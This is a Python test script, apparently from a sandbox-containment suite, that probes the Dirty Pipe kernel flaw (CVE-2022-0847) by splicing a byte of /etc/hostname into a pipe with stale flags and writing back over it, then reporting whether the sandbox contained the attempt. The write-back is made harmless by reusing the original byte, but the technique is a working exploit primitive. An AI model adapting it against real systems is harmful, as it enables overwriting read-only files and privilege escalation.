#: tries = "Overwrites a file that it may only read, through a pipe that still holds its page (Dirty Pipe, CVE-2022-0847)."
#: looks = "Pages cannot be put into a pipe: the call (splice) is refused."
#: limits = ["system-calls", "read-only-root"]
#: lift = "system-calls"

import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
# Of gVisor's kernel, which is the sandbox's own, nothing is the host's.
IS_GVISOR = os.uname().version == "#1 SMP Sun Jan 10 15:06:54 PST 2016"
VICTIM = "/etc/hostname"

with open(VICTIM, "rb") as file:
    before = file.read()
reader, writer = os.pipe()
# Every place in the pipe is used once: what is left of that is what the kernel forgot to clear.
for _ in range(16):
    os.write(writer, bytes(4096))
    os.read(reader, 4096)
victim = os.open(VICTIM, os.O_RDONLY)
offset = ctypes.c_int64(0)
spliced = libc.splice(victim, ctypes.byref(offset), writer, None, ctypes.c_size_t(1), 0)
error = ctypes.get_errno()
if spliced > 0:
    # What is there already, so that nothing is broken where it works.
    os.write(writer, before[1:2])
with open(VICTIM, "rb") as file:
    after = file.read()
if spliced < 0 and error in (errno.EPERM, errno.ENOSYS, errno.EINVAL):
    print("contained: " + os.strerror(error))
elif spliced < 0:
    print("broken: " + os.strerror(error))
elif IS_GVISOR and before == after:
    print("contained: it is the sandbox's own kernel whose pipe it is")
else:
    print("escaped: a page of the file is in the pipe; only a mended kernel keeps it whole")
